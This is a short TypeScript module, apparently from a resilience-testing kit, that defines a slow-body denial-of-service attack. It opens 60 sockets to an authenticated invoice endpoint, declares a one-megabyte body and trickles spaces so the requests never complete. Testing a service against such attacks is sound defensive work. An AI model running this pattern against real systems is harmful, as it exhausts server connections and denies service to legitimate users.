import type { Attack } from '../kit/attack.js';
import { bearer, head, trickle } from '../kit/target.js';

export const attack: Attack = {
  name: 'bodies with a key that never end',
  async run(target) {
    const begin = head('POST /api/v1/invoices', bearer(target.key), 'Content-Length: 1000000');
    const sockets = await target.many(60);
    await Promise.all(sockets.map((socket) => trickle(target, socket, begin, ' ')));
  },
};
